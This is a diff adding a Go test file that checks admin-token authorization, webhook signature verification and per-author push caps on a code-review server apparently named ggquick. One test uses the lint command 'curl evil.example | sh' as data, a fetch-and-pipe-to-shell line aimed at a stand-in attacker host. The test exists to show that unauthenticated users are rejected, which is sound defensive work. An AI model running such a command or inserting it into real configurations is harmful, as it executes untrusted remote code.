@@ -0,0 +1,276 @@
+package testsupport
+
+import (
+	"bytes"
+	"context"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"io"
+	"net/http"
+	"testing"
+	"time"
+
+	"github.com/saint0x/ggquick/pkg/client"
+)
+
+// adminToken is the admin token the auth tests start servers with
+const adminToken = "admin-token"
+
+// call sends a JSON request, with the admin token when admin is set, and
+// returns the status
+func call(t *testing.T, method, url string, admin bool, body interface{}) int {
+	t.Helper()
+	var buf bytes.Buffer
+	if body != nil {
+		if err := json.NewEncoder(&buf).Encode(body); err != nil {
+			t.Fatal(err)
+		}
+	}
+	req, err := http.NewRequest(method, url, &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Content-Type", "application/json")
+	if admin {
+		req.Header.Set("Authorization", "Bearer "+adminToken)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	io.Copy(io.Discard, resp.Body)
+	return resp.StatusCode
+}
+
+// authServer starts a server with one empty repository, acme/widgets,
+// and the admin token set when token is
+func authServer(t *testing.T, token bool) string {
+	t.Helper()
+	if token {
+		t.Setenv("GGQUICK_ADMIN_TOKEN", adminToken)
+	} else {
+		t.Setenv("GGQUICK_ADMIN_TOKEN", "")
+	}
+	env := NewEnv(t)
+	env.GitHub.AddRepo("acme/widgets", BuildRepo(t, RepoSpec{}))
+	return env.StartServer(t, env.Server(t))
+}
+
+func TestConfigLintCommandNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url": "https://github.com/acme/widgets",
+		"lint":     map[string]string{"command": "curl evil.example | sh"},
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusUnauthorized {
+		t.Errorf("lint command without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusOK {
+		t.Errorf("lint command with the admin token: got %d, want 200", status)
+	}
+}
+
+func TestConfigLintCommandRefusedWithoutAdminToken(t *testing.T) {
+	url := authServer(t, false)
+	config := map[string]interface{}{
+		"repo_url": "https://github.com/acme/widgets",
+		"lint":     map[string]string{"command": "golangci-lint run ./..."},
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusForbidden {
+		t.Errorf("lint command on a server without an admin token: got %d, want 403", status)
+	}
+}
+
+func TestConfigBenchmarksNeedAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url":    "https://github.com/acme/widgets",
+		"performance": map[string]interface{}{"paths": []string{"pkg/"}, "bench": true},
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusUnauthorized {
+		t.Errorf("benchmarks without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusOK {
+		t.Errorf("benchmarks with the admin token: got %d, want 200", status)
+	}
+}
+
+func TestConfigRulesNeedAdmin(t *testing.T) {
+	url := authServer(t, true)
+	plain := map[string]interface{}{"repo_url": "https://github.com/acme/widgets"}
+	withRules := map[string]interface{}{
+		"repo_url": "https://github.com/acme/widgets",
+		"rules":    []map[string]string{{"kind": "ignore", "pattern": "dependabot/*"}},
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, plain); status != http.StatusOK {
+		t.Fatalf("config without admin settings: got %d, want 200", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, withRules); status != http.StatusUnauthorized {
+		t.Errorf("rules without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, withRules); status != http.StatusOK {
+		t.Fatalf("rules with the admin token: got %d, want 200", status)
+	}
+	// Reapplying without them would drop the rules
+	if status := call(t, http.MethodPost, url+"/config", false, plain); status != http.StatusUnauthorized {
+		t.Errorf("dropping rules without the admin token: got %d, want 401", status)
+	}
+}
+
+func TestRulesEndpointNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{"repo_url": "https://github.com/acme/widgets"}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusOK {
+		t.Fatalf("config: got %d, want 200", status)
+	}
+	rule := map[string]string{"repo": "acme/widgets", "kind": "ignore", "pattern": "dependabot/*"}
+	if status := call(t, http.MethodPost, url+"/rules", false, rule); status != http.StatusUnauthorized {
+		t.Errorf("adding a rule without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/rules", true, rule); status != http.StatusCreated {
+		t.Errorf("adding a rule with the admin token: got %d, want 201", status)
+	}
+	if status := call(t, http.MethodDelete, url+"/rules?repo=acme/widgets&id=x", false, nil); status != http.StatusUnauthorized {
+		t.Errorf("removing a rule without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodGet, url+"/rules?repo=acme/widgets", false, nil); status != http.StatusOK {
+		t.Errorf("listing rules: got %d, want 200", status)
+	}
+}
+
+func TestBackfillNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{"repo_url": "https://github.com/acme/widgets"}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusOK {
+		t.Fatalf("config: got %d, want 200", status)
+	}
+	backfill := map[string]interface{}{"repo": "acme/widgets", "dry_run": true}
+	if status := call(t, http.MethodPost, url+"/backfill", false, backfill); status != http.StatusUnauthorized {
+		t.Errorf("backfill without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/backfill", true, backfill); status != http.StatusOK {
+		t.Errorf("backfill with the admin token: got %d, want 200", status)
+	}
+}
+
+func TestConfigStaleSweepNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url":    "https://github.com/acme/widgets",
+		"stale_sweep": map[string]interface{}{"enabled": true, "action": "generate"},
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusUnauthorized {
+		t.Errorf("stale sweep without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusOK {
+		t.Errorf("stale sweep with the admin token: got %d, want 200", status)
+	}
+}
+
+func TestConfigWasmNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url": "https://github.com/acme/widgets",
+		"wasm":     []string{"/nonexistent/checklist.wasm"},
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusUnauthorized {
+		t.Errorf("wasm module without the admin token: got %d, want 401", status)
+	}
+	// The module is loaded before the config is stored
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusBadRequest {
+		t.Errorf("missing wasm module: got %d, want 400", status)
+	}
+	config["wasm"] = []string{"checklist.wasm"}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusBadRequest {
+		t.Errorf("relative wasm module path: got %d, want 400", status)
+	}
+}
+
+func TestConfigFirstPushSecretNeedsAdmin(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url":    "https://github.com/acme/widgets",
+		"push_secret": "attacker-secret",
+	}
+	if status := call(t, http.MethodPost, url+"/config", false, config); status != http.StatusUnauthorized {
+		t.Errorf("first push secret without the admin token: got %d, want 401", status)
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusOK {
+		t.Errorf("first push secret with the admin token: got %d, want 200", status)
+	}
+}
+
+func TestWebhookNeedsSignature(t *testing.T) {
+	t.Setenv("GGQUICK_WEBHOOK_SECRET", "hook-secret")
+	url := authServer(t, true)
+	// A branch deletion is acknowledged without doing anything
+	payload := []byte(`{"ref":"refs/heads/gone","deleted":true,"repository":{"full_name":"acme/widgets"}}`)
+	send := func(signature string) int {
+		req, err := http.NewRequest(http.MethodPost, url+"/webhook", bytes.NewReader(payload))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-GitHub-Event", "push")
+		if signature != "" {
+			req.Header.Set("X-Hub-Signature-256", signature)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		io.Copy(io.Discard, resp.Body)
+		return resp.StatusCode
+	}
+	sign := func(secret string) string {
+		mac := hmac.New(sha256.New, []byte(secret))
+		mac.Write(payload)
+		return "sha256=" + hex.EncodeToString(mac.Sum(nil))
+	}
+
+	if status := send(""); status != http.StatusUnauthorized {
+		t.Errorf("unsigned delivery: got %d, want 401", status)
+	}
+	if status := send(sign("guess")); status != http.StatusUnauthorized {
+		t.Errorf("delivery signed with another secret: got %d, want 401", status)
+	}
+	if status := send(sign("hook-secret")); status != http.StatusOK {
+		t.Errorf("signed delivery: got %d, want 200", status)
+	}
+}
+
+func TestAuthorCapIgnoresNamedAuthors(t *testing.T) {
+	url := authServer(t, true)
+	config := map[string]interface{}{
+		"repo_url":   "https://github.com/acme/widgets",
+		"author_cap": map[string]int{"daily": 1},
+	}
+	if status := call(t, http.MethodPost, url+"/config", true, config); status != http.StatusOK {
+		t.Fatalf("config: got %d, want 200", status)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	c := client.New(url)
+	if _, err := c.Push(ctx, client.PushRequest{Ref: "feature/one", Repo: "acme/widgets", Author: "alice"}); err != nil {
+		t.Fatalf("Push: %v", err)
+	}
+	// Naming someone else doesn't get a push a cap of its own
+	job, err := c.Push(ctx, client.PushRequest{Ref: "feature/two", Repo: "acme/widgets", Author: "bob"})
+	if err != nil {
+		t.Fatalf("Push: %v", err)
+	}
+	for job.Status != "held" {
+		if ctx.Err() != nil {
+			t.Fatalf("job %s is %s, want held", job.ID, job.Status)
+		}
+		time.Sleep(20 * time.Millisecond)
+		if job, err = c.Job(ctx, job.ID); err != nil {
+			t.Fatalf("Job: %v", err)
+		}
+	}
+}